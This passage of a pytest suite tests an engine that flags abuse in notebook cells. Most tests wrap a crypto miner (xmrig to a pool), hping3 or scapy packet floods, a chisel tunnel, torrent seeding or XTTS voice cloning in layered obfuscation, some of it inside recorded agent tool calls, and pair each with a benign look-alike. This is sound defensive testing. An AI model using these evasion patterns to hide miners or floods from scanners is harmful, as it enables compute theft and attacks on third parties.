        os.chmod(dst, os.stat(dst).st_mode | stat.S_IEXEC)

fetch("https://example.org/releases/{first}", "/usr/local/bin/helper")
fetch("https://example.org/releases/notes.txt", "/content/notes.txt")
subprocess.Popen(["/usr/local/bin/helper", {args}])
"""


@pytest.mark.parametrize("first, args, runs_miner", [
    ("xmrig-6.21.0/xmrig", "'-o', 'pool.example.net:3333', '-u', 'WALLET'", True),
    ("convert-1.2/convert", "'--resize', '50%', 'in.png', 'out.png'", False),
])
def test_a_helper_called_twice_is_read_once_per_call(engine, first, args, runs_miner):
    """A download helper called twice with different constants: its body is read once per call, so the program
    saved under another name is known by what was downloaded (a miner saved as /usr/local/bin/helper). The
    look-alike downloads an image tool the same way."""
    verdict = engine.check_code(INSTALLER.format(first=first, args=args))
    assert (verdict.action == "block" and verdict.category == "crypto_mining") is runs_miner, verdict.to_dict()
    if not runs_miner:
        assert_allowed(engine, INSTALLER.format(first=first, args=args))


def test_compressed_source_in_a_decoded_table_is_read(engine):
    """A table decoded at run time (base85 of zlib of marshal) whose item is zlib-compressed source, run through
    builtins looked up by the table's own names under an opaque condition the folder does not decide: the item,
    decompressed, is read as the code it is."""
    def cell(source: str) -> str:
        table = marshal.dumps(("exec", "compile", zlib.compress(source.encode())))
        blob = base64.b85encode(zlib.compress(table)).decode()
        return ("import marshal as m, zlib as z, base64 as b\n__ = globals()['__builtins__']\n"
                "L = (lambda _: _ if type(_) is dict else vars(_))(__)\n"
                f"T = m.loads(z.decompress(b.b85decode({blob!r})))\n"
                "def run(n, blob):\n    if (n * n + n) % 2 == 0:\n"
                "        return L[T[0]](L[T[1]](z.decompress(blob).decode(), '<t>', 'exec'))\n"
                "run(len(T), T[2])")
    verdict = engine.check_code(cell(f"import os\nos.system({MINER!r})\n"))
    assert verdict.action == "block" and MINER_RULE in {f.rule for f in verdict.findings}, verdict.to_dict()
    assert_allowed(engine, cell("import json\nprint(json.dumps({'epochs': 10}))\n"))


@pytest.mark.parametrize("command, blocked", [(MINER, True), ("nvidia-smi -L", False)])
def test_base32_under_rot13_in_a_written_plugin_config_is_read(engine, command, blocked):
    """Values kept in a JSON config the cell dumps, each base32 under rot13, decoded by a plugin module the cell
    writes and installs: a cell that names rot13 has its literals read rot13'd, and what those hold on their
    looks (base32) is read too. The look-alike keeps a GPU listing the same way."""
    value = codecs.encode(base64.b32encode(command.encode()).decode(), "rot13")
    cell = ("import json, os\nos.makedirs('/content/pkg/src/tool', exist_ok=True)\n"
            "open('/content/pkg/src/tool/plugin.py', 'w').write('''\nimport base64, codecs, subprocess\n"
            "def run(cfg):\n    line = base64.b32decode(codecs.decode(cfg['cmd'], 'rot13')).decode()\n"
            "    subprocess.run(line.split())\n''')\n"
            f"json.dump({{'cmd': {value!r}}}, open('/content/tool.json', 'w'))\n"
            "!pip install -q /content/pkg\n"
            "from importlib.metadata import entry_points\n"
            "for ep in entry_points(group='tool.plugins'):\n    ep.load()(json.load(open('/content/tool.json')))")
    verdict = engine.check_code(cell)
    assert (verdict.action == "block" and MINER_RULE in {f.rule for f in verdict.findings}) is blocked, verdict.to_dict()
    if blocked:
        assert any(f.via.startswith("rot13+base32") for f in verdict.findings if f.rule == MINER_RULE)
    else:  # a command decoded where it runs is still hidden (obscured_code), but it is no miner
        assert verdict.action != "block" and not any(f.category == "crypto_mining" for f in verdict.findings)


@pytest.mark.parametrize("command, blocked", [(MINER, True), ("nvidia-smi -L", False)])
def test_a_program_written_through_a_path_join_is_read_as_code(engine, command, blocked):
    """A zipapp's ``__main__.py`` written with ``(app / "__main__.py").write_text(...)``, its body a compressed
    base85 blob run with exec: the file's name is folded through pathlib's ``/`` and its body read as the Python
    it is, and so is a body written where the name gives no kind (``app / "main"``). The look-alike runs a GPU
    listing the same way: hidden, so at most a warning, and no miner."""
    for name in ("__main__.py", "main"):
        blob = base64.b85encode(zlib.compress(f"import os\nos.system({command!r})\n".encode())).decode()
        cell = ("import pathlib\napp = pathlib.Path('/content/app'); app.mkdir(exist_ok=True)\n"
                f"(app / {name!r}).write_text(\n    'import zlib, base64\\n'\n"
                f"    \"exec(zlib.decompress(base64.b85decode({blob!r})))\\n\")\n"
                "!python -m zipapp /content/app -o /content/app.pyz && python /content/app.pyz")
        verdict = engine.check_code(cell)
        assert (verdict.action == "block" and MINER_RULE in {f.rule for f in verdict.findings}) is blocked, \
            (name, verdict.to_dict())
        if not blocked:
            assert verdict.action != "block" and not any(f.category == "crypto_mining" for f in verdict.findings)


@pytest.mark.parametrize("package, flagged", [("slowloris", True), ("rich", False)])
def test_a_shell_escape_expression_is_folded_and_pip_options_before_the_verb_are_skipped(engine, package, flagged):
    """``!pip -q install {u('...')}``: IPython expands any expression in braces, here the cell's own rot13 helper,
    and pip's global options may stand before its verb. The look-alike installs a formatting library the same way."""
    cell = ("import codecs\ndef u(s):\n    return codecs.decode(s, 'rot13')\n"
            f"!pip -q install {{u({codecs.encode(package, 'rot13')!r})}}")
    verdict = engine.check_code(cell)
    assert ("dos_attack.tool-package" in {f.rule for f in verdict.findings}) is flagged, verdict.to_dict()
    if not flagged:
        assert_allowed(engine, cell)


@pytest.mark.parametrize("tool, flagged_", [("hping3", True), ("ffmpeg", False)])
def test_a_plugin_picked_from_a_registry_gives_each_of_its_classes_command(engine, tool, flagged_):
    """``subprocess.Popen(REGISTRY[key]().argv(t))``: the object is made from a class chosen at run time (a
    registry filled by ``__init_subclass__``), so each of the cell's classes with that method gives a command the
    cell may run, its ``self.binary`` the class's own. The look-alike registers a video converter the same way."""
    cell = ("import subprocess\nclass Step:\n    table = {}\n    def __init_subclass__(cls, **kw):\n"
            "        Step.table[cls.key] = cls\n    def argv(self, t):\n        return []\n"
            f"class Main(Step):\n    key = 'main'\n    binary = {tool[:3]!r} + {tool[3:]!r}\n"
            f"    flags = {['--flood', '-S', '-p', '443'] if tool == 'hping3' else ['-y', '-i']!r}\n"
            "    def argv(self, t):\n        return [self.binary, *self.flags, t]\n"
            "chosen = 'main'\nsubprocess.Popen(Step.table[chosen]().argv('198.51.100.23'))")
    verdict = engine.check_code(cell)
    assert (verdict.action in ("warn", "block") and verdict.category == "dos_attack") is flagged_, verdict.to_dict()
    if not flagged_:
        assert_allowed(engine, cell)


@pytest.mark.parametrize("tool, blocked", [("xmrig", True), ("nvidia-smi", False)])
def test_an_entry_of_a_table_picked_at_run_time_is_read(engine, tool, blocked):
    """``subprocess.call(TABLE[key])`` with the key known only at run time (a restart table that resumes): every
    entry of the table is a command the cell may run. The look-alike keeps GPU queries the same way."""
    cell = ("import os, subprocess, time\n"
            f"TABLE = {{'start': [{tool!r}, '-o', 'pool.example.net:3333'], 'resume': [{tool!r}, '--help']}}\n"
            "key = 'resume' if os.path.exists('state') else 'start'\n"
            "while True:\n    rc = subprocess.call(TABLE[key])\n    key = 'resume'\n    time.sleep(20)")
    verdict = engine.check_code(cell)
    assert (verdict.action == "block" and MINER_RULE in {f.rule for f in verdict.findings}) is blocked, verdict.to_dict()
    if not blocked:
        assert_allowed(engine, cell)


@pytest.mark.parametrize("line, flagged", [("chisel server --port %d --socks5", True),
                                           ("nvidia-smi --loop=%d", False)])
def test_a_template_filled_at_run_time_and_encoded_for_libc_is_read(engine, line, flagged):
    """``libc.system(('... %d' % cfg['port']).encode())``: the command's known words are read through the encode,
    its unknown parts kept as placeholders. The look-alike polls the GPU the same way."""
    cell = ("import ctypes, json\ncfg = json.load(open('/content/app.json'))\n"
            "sh = ctypes.CDLL('libc.so.6').system\n"
            f"while True:\n    sh(({line!r} % cfg['port']).encode())")
    verdict = engine.check_code(cell)
    assert ("proxy_tunnel.reverse-proxy-tunnel" in {f.rule for f in verdict.findings}) is flagged, verdict.to_dict()
    if not flagged:
        assert_allowed(engine, cell)


@pytest.mark.parametrize("program, blocked", [("/usr/local/bin/xmrig -o pool.example.net:3333", True),
                                              ("/usr/bin/python3 train.py --epochs 50", False)])
def test_a_service_units_command_lines_are_read(engine, program, blocked):
    """A supervisord program written with %%writefile, and a systemd unit filled from a string.Template with a
    value known only at run time and written by open().write: the service manager runs their command= and
    ExecStart= lines later, so they are read as the shell lines they are. The look-alike keeps a training run up."""
    supervisord = f"%%writefile /etc/supervisor/conf.d/job.conf\n[program:job]\ncommand={program}\nautorestart=true\n"
    systemd = ("from string import Template\nimport os\n"
               "unit = Template('[Unit]\\nDescription=$name\\n[Service]\\nExecStart=$cmd -u $user\\nRestart=always\\n')"
               f".substitute(name='job', cmd={program!r}, user=os.environ.get('WHO') or input('who: '))\n"
               "open('/etc/systemd/system/job.service', 'w').write(unit)\n!systemctl daemon-reload")
    assert_miner_rule(engine, (supervisord, systemd), blocked)


@pytest.mark.parametrize("name, runs", [("system", True), ("getcwd", False)])
def test_a_decoder_that_unpacks_its_locals_in_one_statement_is_folded(engine, name, runs):
    """``lo, up = string.ascii_lowercase, string.ascii_uppercase`` before the return: a Caesar shift behind
    percent-encoding, read as the steps it is, so the name it decodes is known (``os.system``). The look-alike
    decodes an allowed function's name the same way."""
    shift = 11
    lo, up = "abcdefghijklmnopqrstuvwxyz", "ABCDEFGHIJKLMNOPQRSTUVWXYZ"
    table = str.maketrans(lo + up, lo[shift:] + lo[:shift] + up[shift:] + up[:shift])
    encoded = "".join(f"%{ord(c):02X}" for c in name.translate(table))
    cell = ("import os, string\nfrom urllib.parse import unquote\ndef d(s, n=11):\n"
            "    lo, up = string.ascii_lowercase, string.ascii_uppercase\n"
            "    return unquote(s).translate(str.maketrans(lo[n:] + lo[:n] + up[n:] + up[:n], lo + up))\n"
            f"getattr(os, d({encoded!r}))({MINER!r})")
    verdict = engine.check_code(cell)
    assert (verdict.action == "block" and MINER_RULE in {f.rule for f in verdict.findings}) is runs, verdict.to_dict()
    if not runs:
        assert verdict.action != "block"


@pytest.mark.parametrize("command, blocked", [(MINER, True), ("nvidia-smi -L", False)])
def test_commands_in_a_recorded_tool_call_are_read(engine, command, blocked):
    """An agent's recorded reply: a JSON text whose tool call carries its arguments as JSON text of their own
    (``"arguments": "{\\"command\\": ...}"``), replayed through a run_shell tool; and a tool function handed a
    dict of its parameters (``execute_function({"name": ..., "arguments": json.dumps({...})})``). The command
    fields and the dict's values are read as the tool would use them. The look-alike lists GPUs the same way."""
    arguments = json.dumps({"command": command})
    recorded = json.dumps({"tool_calls": [{"function": {"name": "run_shell", "arguments": arguments}}]})
    replayed = ("import json, subprocess\ndef run_shell(command):\n"
                "    return subprocess.run(command, shell=True, capture_output=True, text=True).stdout\n"
                f"reply = r'''{recorded}'''\n"
                "for tc in json.loads(reply)['tool_calls']:\n    run_shell(**json.loads(tc['function']['arguments']))")
    program, _, rest = command.partition(" ")
    handed = ("import json, subprocess\n"
              "def fetch(tool, flags):\n    return subprocess.run([tool, *flags.split()]).returncode\n"
              f"call = {{'name': 'fetch', 'arguments': json.dumps({{'tool': {program!r}, 'flags': {rest!r}}})}}\n"
              "fetch(**json.loads(call['arguments']))")
    assert_miner_rule(engine, (replayed, handed), blocked)


@pytest.mark.parametrize("target, flagged", [("203.0.113.7", True), ("127.0.0.1", False)])
def test_a_tool_functions_recorded_arguments_bind_its_parameters(engine, target, flagged):
    """A tool no call names, handed a recorded dict of its arguments by the agent loop (``tools[name](**input)``):
    its parameters hold the dict's values, so a packet flood's target (decoded inside the tool) and its count are
    known. The look-alike sends the same packets to this machine."""
    encoded = base64.b64encode(target.encode()).decode()
    cell = ("import base64, importlib\n_sc = importlib.import_module('scapy' + '.all')\n"
            "def stress(target_b64, port, count):\n"
            "    dst = base64.b64decode(target_b64).decode()\n"
            "    IP, TCP, send = (getattr(_sc, n) for n in ('IP', 'TCP', 'send'))\n"
            "    send(IP(dst=dst) / TCP(dport=port, flags='S'), count=count, verbose=False)\n"
            f"reply = {{'type': 'tool_use', 'name': 'stress', 'input': {{'target_b64': {encoded!r}, 'port': 443, "
            "'count': 10000000}}\n"
            "print({'stress': stress}[reply['name']](**reply['input']))")
    verdict = engine.check_code(cell)
    assert (verdict.action in {"warn", "block"}) is flagged, verdict.findings
    assert ("dos_attack" in {f.category for f in verdict.findings}) is flagged


@pytest.mark.parametrize("layer", ["rot13", "reversed"])
@pytest.mark.parametrize("url, blocked", [("https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-linux-static-x64.tar.gz", True),
                                          ("https://github.com/pytorch/vision/archive/refs/tags/v0.17.0.tar.gz", False)])
def test_rot13_or_reversed_text_under_base32_is_read(engine, layer, url, blocked):
    """base32 of a rot13'd or reversed URL, undone by a helper the cell writes to a file and a plan replayed step
    by step: the literal is read on its looks, then rot13'd or reversed because the cell names the codec or a
    backwards slice. The look-alike downloads a library's source the same way."""
    hidden = codecs.encode(url, "rot13") if layer == "rot13" else url[::-1]
    undo = 'codecs.decode(text, "rot_13")' if layer == "rot13" else "text[::-1]"
    blob = base64.b32encode(hidden.encode()).decode()
    cell = ("import base64, codecs, os, urllib.request\n"
            "def unwrap(blob):\n    text = base64.b32decode(blob).decode()\n"
            f"    return {undo}\n"
            f"plan = [{{'step': 'fetch', 'blob': {blob!r}}}]\n"
            "for step in plan:\n"
            "    urllib.request.urlretrieve(unwrap(step['blob']), '/tmp/a.tgz')\n"
            "os.system('tar xf /tmp/a.tgz -C /tmp && /tmp/*/x* --help')\n")
    verdict = engine.check_code(cell)
    assert (verdict.action == "block") is blocked, verdict.findings


@pytest.mark.parametrize("tool, blocked", [("xmrig -o pool.example.net:3333 -u W", True), ("nvidia-smi -L", False)])
@pytest.mark.parametrize("shape", ["builtin map", "executor map", "column map", "inline csv column"])
def test_commands_mapped_over_items_are_read(engine, tool, blocked, shape):
    """A runner handed the items it runs (``map(os.system, cmds)``, an executor's ``map``, a pandas column's
    ``map``/``apply``), the commands built by column arithmetic on a table spelled out or read from inline CSV:
    each item is read as the command the runner makes. The look-alike lists GPUs the same way."""
    program, _, rest = tool.partition(" ")
    cells = {
        "builtin map": f"import os\ncmds = [{tool!r}]\nlist(map(os.system, cmds))",
        "executor map": ("import subprocess\nfrom concurrent.futures import ThreadPoolExecutor\n"
                         f"cmds = [{tool!r}]\nwith ThreadPoolExecutor(2) as ex:\n"
                         "    list(ex.map(lambda c: None, cmds))\n    list(ex.map(subprocess.getoutput, cmds))"),
        "column map": ("import os, pandas as pd\n"
                       f"df = pd.DataFrame({{'rest': [{rest!r}]}})\n"
                       f"df['cmd'] = {program + ' '!r} + df.rest\ndf.cmd.map(os.system)"),
        "inline csv column": ("import io, os, pandas as pd\n"
                              f"df = pd.read_csv(io.StringIO('name,rest\\nrun,{rest}\\n'))\n"
                              f"df['cmd'] = {program + ' '!r} + df['rest']\ndf['cmd'].apply(os.system)"),
    }
    verdict = engine.check_code(cells[shape])
    assert (verdict.action == "block") is blocked, (shape, verdict.findings)


def test_a_list_reversed_in_place_on_a_walked_line_is_reversed_once(engine):
    """A focused pass that walks the line of ``words.reverse()`` (its list holds a hit) keeps the statement once:
    kept twice, the reversal would undo itself and the command would read backwards."""
    cell = ("import os\nwords = ['WALLET', '-u', 'pool.example.net:3333', '-o', 'xmrig']\n"
            "words.reverse()  # xmrig order\nos.system(' '.join(words))")
    assert engine.check_code(cell).action == "block"


@pytest.mark.parametrize("tool, blocked", [("xmrig", True), ("nvidia-smi", False)])
@pytest.mark.parametrize("shape", ["column decoded", "rows applied", "rows iterated"])
def test_pandas_columns_and_rows_are_folded(engine, tool, blocked, shape):
    """pandas work the folder follows: a column decoded cell by cell (``.map(base64.b64decode).map(bytes.decode)``)
    and two columns joined row by row; argv lists made per row (``df.apply(lambda r: [...], axis=1)``, with
    ``os.path.dirname`` of a cell) and run through a lambda's ``map``; rows iterated with ``itertuples``. The
    look-alike runs a GPU listing the same ways."""
    encoded = base64.b64encode(tool.encode()).decode()
    cells = {
        "column decoded": ("import io, os, base64, pandas as pd\n"
                           f"src = pd.read_csv(io.StringIO('label,payload\\nrun,{encoded}\\n'))\n"
                           "src['exe'] = src.payload.map(base64.b64decode).map(bytes.decode)\n"
                           "src['cmd'] = src.exe + ' -o pool.example.net:3333 --label ' + src.label\n"
                           "src.cmd.map(os.system)"),
        "rows applied": ("import os, subprocess, pandas as pd\n"
                         f"df = pd.DataFrame({{'bin': ['/opt/{tool}/{tool}'], 'pool': ['pool.example.net:3333']}})\n"
                         "df['argv'] = df.apply(lambda r: [os.path.dirname(r.bin) + '/' + os.path.basename(r.bin),"
                         " '-o', r.pool], axis=1)\n"
                         "df.argv.map(lambda a: subprocess.Popen(a, stdout=subprocess.DEVNULL))"),
        "rows iterated": ("import subprocess, pandas as pd\n"
                          f"df = pd.DataFrame({{'bin': ['{tool}'], 'pool': ['pool.example.net:3333']}})\n"
                          "for r in df.itertuples():\n    subprocess.run([r.bin, '-o', r.pool])"),
    }
    verdict = engine.check_code(cells[shape])
    assert (verdict.action == "block") is blocked, (shape, verdict.findings)


@pytest.mark.parametrize("flags, blocked", [("--seed-ratio=0.0 --enable-dht=true", True), ("-x 4 -s 4", False)])
def test_a_settings_model_passed_to_a_helper_is_read(engine, flags, blocked):
    """A pydantic model of settings (fields with defaults, one hex-encoded) handed to the helper that runs the
    command: the helper's parameter is that object, so its fields are known. The look-alike's options only
    split a plain download."""
    cell = ("import subprocess\nfrom pydantic import BaseModel\nclass Profile(BaseModel):\n    target: str\n"
            f"    flags: str = {flags.encode().hex()!r}\n"
            "def fetch(p: Profile):\n    extra = bytes.fromhex(p.flags).decode().split()\n"
            "    return subprocess.Popen(['aria2c', *extra, p.target])\n"
            "proc = fetch(Profile(target=input('link: ')))\n")
    verdict = engine.check_code(cell)
    assert (verdict.action in {"warn", "block"} and verdict.category == "torrent_p2p") is blocked, verdict.findings


@pytest.mark.parametrize("loader", ["tomllib", "yaml"])
@pytest.mark.parametrize("tool, blocked", [("xmrig", True), ("nvidia-smi", False)])
def test_settings_written_to_a_file_and_read_back_are_known(engine, loader, tool, blocked):
    """Settings text written to a file and loaded back (``tomllib.load(f)``, ``yaml.safe_load(f)``): the value
    read back is the text parsed by that loader. The look-alike runs a GPU listing from the same settings."""
    text = f'tool = "{tool}"\npool = "pool.example.net:3333"\n' if loader == "tomllib" else \
        f"tool: {tool}\npool: pool.example.net:3333\n"
    mode, load = ("rb", "tomllib.load(f)") if loader == "tomllib" else ("r", "yaml.safe_load(f)")
    cell = (f"import os, tomllib, yaml\nwith open('/tmp/.s', 'w') as f:\n    f.write('''{text}''')\n"
            f"with open('/tmp/.s', '{mode}') as f:\n    cfg = {load}\n"
            "os.system(cfg['tool'] + ' -o ' + cfg['pool'])\n")
    assert (engine.check_code(cell).action == "block") is blocked


@pytest.mark.parametrize("tool, blocked", [("xmrig", True), ("nvidia-smi", False)])
def test_a_comprehension_that_reverses_some_words_by_their_prefix_is_folded(engine, tool, blocked):
    """``[c[::-1] if not c.startswith('/') else c for c in cmd]``: words reversed except paths, undone word by
    word (the folder evaluates ``startswith``/``endswith`` tests). The look-alike starts a GPU listing."""
    words = [tool[::-1], "c-", "/opt/pool.json"]  # xmrig -c /opt/pool.json, written backwards but the path
    cell = f"import subprocess\ncmd = {words!r}\nsubprocess.run([c[::-1] if not c.startswith('/') else c for c in cmd])\n"
    assert (engine.check_code(cell).action == "block") is blocked


@pytest.mark.parametrize("tool, blocked", [("xmrig", True), ("nvidia-smi", False)])
def test_a_placeholder_item_tested_with_is_none_is_filled(engine, tool, blocked):
    """``[LIBS[lib.value] if a is None else a[::-1] for a in SERVE]``: a ``None`` written in an argv template is
    the slot a chosen value fills (a Dropdown over a dict's keys); ``is None`` is read. The look-alike starts a GPU
    listing the same way."""
    cell = ("import subprocess\nimport ipywidgets as widgets\n"
            "POOLS = {'main': '3333:ten.elpmaxe.loop'}\n"
            f"SERVE = [{tool[::-1]!r}, 'o-', None]\n"
            "lib = widgets.Dropdown(options=list(POOLS))\n"
            "def go(_):\n    subprocess.Popen([POOLS[lib.value][::-1] if a is None else a[::-1] for a in SERVE])\n"
            "widgets.Button(description='Start').on_click(go)\n")
    assert (engine.check_code(cell).action == "block") is blocked


@pytest.mark.parametrize("command, blocked", [(MINER, True), ("nvidia-smi -L", False)])
def test_a_wrapper_defined_inside_a_function_is_a_wrapper(engine, command, blocked):
    """``async def boot(): async def sh(cmd): await asyncio.create_subprocess_shell(cmd)`` then ``sh('...')``: a
    helper defined inside the function that uses it runs its argument like a top-level one. The look-alike lists
    GPUs the same way."""
    cell = ("import asyncio\nasync def boot():\n    async def sh(cmd):\n"
            "        p = await asyncio.create_subprocess_shell(cmd)\n        return p\n"
            f"    await sh({command!r})\nasyncio.run(boot())\n")
    assert (engine.check_code(cell).action == "block") is blocked


@pytest.mark.parametrize("host, blocked", [("ltc.pool.example.org", True), ("api.prices.example.org", False)])
def test_a_class_of_constants_is_read_as_settings(engine, host, blocked):
    """A class that only holds constants (hex-encoded ``scheme``/``host``, a port), handed to the object that
    builds the command: its attributes are known. The look-alike fetches prices over HTTPS the same way."""
    scheme = "stratum+tcp://" if blocked else "https://"
    cell = ("import os\ndef unhex(v):\n    return bytes.fromhex(v).decode()\n"
            f"class Settings:\n    scheme = {scheme.encode().hex()!r}\n    host = {host.encode().hex()!r}\n"
            "    port = 3333\n"
            "class Job:\n    def __init__(self, s):\n        self.url = unhex(s.scheme) + unhex(s.host) + ':' + str(s.port)\n"
            "    def run(self):\n        os.system('nohup ./worker -a scrypt -o ' + self.url + ' &')\n"
            "Job(Settings()).run()\n")
    assert (engine.check_code(cell).action == "block") is blocked


@pytest.mark.parametrize("tool, blocked", [("xmrig", True), ("nvidia-smi", False)])
@pytest.mark.parametrize("shape", ["pipe", "merged options", "repeated argv"])
def test_functional_pipelines_are_folded(engine, tool, blocked, shape):
    """Functional style: a ``pipe`` helper made of ``reduce(lambda acc, f: f(acc), fs, x)`` applied through
    ``map``; options merged with ``reduce(lambda a, b: {**a, **b}, ...)`` and rendered with ``starmap`` and
    ``chain``; one argv handed to a runner lambda over ``itertools.repeat``. The look-alike starts a GPU listing."""
    encoded = base64.b64encode(tool.encode()).decode()
    cells = {
        "pipe": ("import base64, os\nfrom functools import reduce\n"
                 "pipe = lambda *fs: lambda x: reduce(lambda acc, f: f(acc), fs, x)\n"
                 "unpack = pipe(str.encode, base64.b64decode, bytes.decode, str.strip)\n"
                 f"exe, = map(unpack, ({encoded!r},))\n"
                 "os.system(exe + ' -o pool.example.net:3333 -u W')\n"),
        "merged options": ("import subprocess\nfrom functools import reduce\nfrom itertools import chain, starmap\n"
                           "a = {'o': 'pool.example.net:3333'}\nb = {'u': 'W'}\n"
                           "opts = reduce(lambda acc, layer: {**acc, **layer}, (a, b), {})\n"
                           f"argv = list(chain(({tool!r},), starmap('-{{}}={{}}'.format, opts.items())))\n"
                           "subprocess.Popen(argv)\n"),
        "repeated argv": ("import os, subprocess\nfrom itertools import repeat\n"
                          f"argv = [{tool!r}, '-o', 'pool.example.net:3333']\n"
                          "procs = tuple(map(lambda a: subprocess.Popen(a), repeat(argv, os.cpu_count())))\n"),
    }
    assert (engine.check_code(cells[shape]).action == "block") is blocked, shape


@pytest.mark.parametrize("tool, blocked", [("xmrig", True), ("nvidia-smi", False)])
@pytest.mark.parametrize("shape", ["instance attribute", "class attribute"])
def test_a_runner_kept_in_an_attribute_is_a_runner(engine, tool, blocked, shape):
    """``self.go = subprocess.run`` in one object and ``r.go(argv)`` later, or ``launcher = subprocess.Popen`` in
    a class body called as ``self.launcher(argv)``: the attribute holds the runner. The look-alike lists GPUs."""
    argv = f"[{tool!r}, '-o', 'pool.example.net:3333', '-u', 'W']"
    cells = {
        "instance attribute": ("import subprocess\nclass Runner:\n    def __init__(self):\n"
                               "        self.go = subprocess.run\nr = Runner()\n" f"r.go({argv})\n"),
        "class attribute": ("import subprocess\nclass Job:\n    launcher = subprocess.Popen\n"
                            "    def start(self, argv):\n        return self.launcher(argv)\n"
                            f"Job().start({argv})\n"),
    }
    assert (engine.check_code(cells[shape]).action == "block") is blocked, shape


@pytest.mark.parametrize("tool, blocked", [("xmrig", True), ("nvidia-smi", False)])
def test_a_class_made_by_type_has_its_members_read(engine, tool, blocked):
    """``type('W', (), {'argv': [...], 'go': lambda self: subprocess.Popen(self.argv)})``: the members of a class
    made by a call are read like a class body's, the program name hex-encoded. The look-alike lists GPUs."""
    cell = ("import subprocess\n"
            f"Worker = type('W', (object,), {{'argv': [bytes.fromhex({tool.encode().hex()!r}).decode(), '-o', "
            "'pool.example.net:3333'], 'go': lambda self: subprocess.Popen(self.argv)})\nWorker().go()\n")
    assert (engine.check_code(cell).action == "block") is blocked


@pytest.mark.parametrize("flags, blocked", [("'--flood', '--rand-source'", True), ("'-c', '3'", False)])
def test_an_exec_argv_with_a_spread_of_unknown_words_is_read(engine, flags, blocked):
    """``create_subprocess_exec('hping3', '--flood', *extra, victim)`` with ``extra`` a parameter filled from a
    table: the unknown words stand as one placeholder, the rest of the command is read. The look-alike pings the
    host three times."""
    cell = ("import asyncio\nvictim = '198.51.100.77'\nmodes = [['-S', '-p', '80'], ['--udp', '-p', '53']]\n"
            f"async def probe(extra):\n    p = await asyncio.create_subprocess_exec('hping3', {flags}, *extra, victim)\n"
            "    await p.wait()\n"
            "async def main():\n    await asyncio.gather(*(probe(m) for m in modes))\nasyncio.run(main())\n")
    assert (engine.check_code(cell).action == "block") is blocked


@pytest.mark.parametrize("tool, blocked", [("xmrig", True), ("nvidia-smi", False)])
@pytest.mark.parametrize("shape", ["factory with aliases", "by function name"])
def test_a_function_stored_in_a_table_by_its_decorator_is_found_there(engine, tool, blocked, shape):
    """A registering decorator of the cell (``@worker('nv', 'cuda')`` storing the function under each alias, or
    ``@register`` storing it under its ``__name__``) and the command built from ``dict(...)`` settings by the stored
    function, picked from the table by key. The look-alike lists GPUs the same way, with an HTTPS address."""
    register = {
        "factory with aliases": ("def worker(*aliases):\n    def wrap(fn):\n        for a in aliases:\n"
                                 "            JOBS[a] = fn\n        return fn\n    return wrap\n@worker('nv', 'cuda')\n", "cuda"),
        "by function name": ("def register(fn):\n    JOBS[fn.__name__] = fn\n    return fn\n@register\n", "job"),
    }[shape]
    exe = " + ".join(repr(part) for part in (tool[:2], tool[2:]))
    cell = ("import os\nJOBS = {}\n" + register[0] +
            f"def job(p):\n    exe = {exe}\n    return f\"./{{exe}} -o {{p['proto']}}://{{p['host']}}:{{p['port']}}\"\n"
            f"params = dict(proto={'stratum+tcp' if blocked else 'https'!r}, host='pool.example.net', port=3333)\n"
            f"os.system('nohup ' + JOBS[{register[1]!r}](params) + ' &')\n")
    assert (engine.check_code(cell).action == "block") is blocked, shape


@pytest.mark.parametrize("argv, blocked", [("['hping3', *self.flags, '--flood', '-p', str(self.port), self.target]", True),
                                           ("['ping', *self.flags, '-c', '3', self.target]", False)])
def test_an_argv_returned_by_a_method_is_read(engine, argv, blocked):
    """A plugin class whose ``argv()`` method returns the command (class-level flags spread in, the target from the
    constructor) and whose ``start()`` hands ``self.argv()`` to ``Popen``, the subclass picked from a registry that
    ``__init_subclass__`` fills. The look-alike pings the host."""
    cell = ("import subprocess\nclass Plugin:\n    registry = {}\n    flags = []\n"
            "    def __init_subclass__(cls, **kw):\n        Plugin.registry[cls.__name__.lower()] = cls\n"
            "    def __init__(self, target, port=80):\n        self.target, self.port = target, port\n"
            f"    def argv(self):\n        return {argv}\n"
            "    def start(self):\n        return subprocess.Popen(self.argv())\n"
            "class Syn(Plugin):\n    flags = ['-S']\n"
            "procs = [Plugin.registry[n]('203.0.113.45', 443).start() for n in ('syn',)]\n")
    assert (engine.check_code(cell).action == "block") is blocked


@pytest.mark.parametrize("options, blocked", [("--seed-time=0 --enable-dht=true", True), ("-x 8 --continue=true", False)])
def test_a_line_filled_by_format_map_and_run_by_ipython_is_read_loose(engine, options, blocked):
    """``get_ipython().system(cmd)`` with ``cmd = '...'.format_map(row)`` for each row of an inline CSV: the
    row's fields are not known, the rest of the line is (a torrent client's seeding options). The look-alike
    downloads the rows' files with aria2's segmented HTTP options."""
    cell = ("import csv, io\nLIST = 'link,dir\\nfile-a,/content/a\\n'\n"
            "for row in csv.DictReader(io.StringIO(LIST)):\n"
            f"    cmd = 'aria2c {options} -d \"{{dir}}\" \"{{link}}\"'.format_map(row)\n"
            "    get_ipython().system(cmd)\n")
    assert (engine.check_code(cell).action == "block") is blocked


@pytest.mark.parametrize("key, value, cloned", [("'speaker' + '_wav'", "ref", True), ("'speak' + 'er'", "'Ana Florence'", False)])
def test_keywords_spread_from_a_dict_are_read_as_written_out(engine, key, value, cloned):
    """``self.m.tts_to_file(**kw)`` where the dict's key is put together (``'speaker' + '_wav'``) and its values
    are the method's parameters: the call is read as ``tts_to_file(text=..., speaker_wav=...)``, XTTS cloning the
    voice of a reference recording. The look-alike names one of the model's stock speakers the same way."""
    cell = ("from TTS.api import TTS\nclass Voice:\n    def __init__(self):\n"
            "        self.m = TTS('tts_models/multilingual/multi-dataset/xtts_v2')\n"
            f"    def __call__(self, text, ref, out):\n        kw = {{'text': text, 'file_path': out, {key}: {value}}}\n"
            "        return self.m.tts_to_file(**kw)\n"
            "Voice()('Breaking news tonight.', '/content/anchor.wav', 'out.wav')\n")
    verdict = engine.check_code(cell)
    assert (verdict.action in ("warn", "block") and verdict.category == "deepfake") is cloned


@pytest.mark.parametrize("command, blocked", [(MINER, True), ("nvidia-smi -L", False)])
@pytest.mark.parametrize("module", ["zlib", "bz2", "lzma"])
def test_code_compressed_and_decompressed_in_the_cell_is_read(engine, command, blocked, module):
    """``exec(zlib.decompress(zlib.compress(src.encode())))``: a round trip through a compressor that the cell makes
    itself gives the code back. The look-alike lists GPUs."""
    cell = (f"import {module}\nsrc = \"import os\\nos.system({command!r})\\n\"\n"
            f"exec({module}.decompress({module}.compress(src.encode())))\n")
    assert (engine.check_code(cell).action == "block") is blocked, module


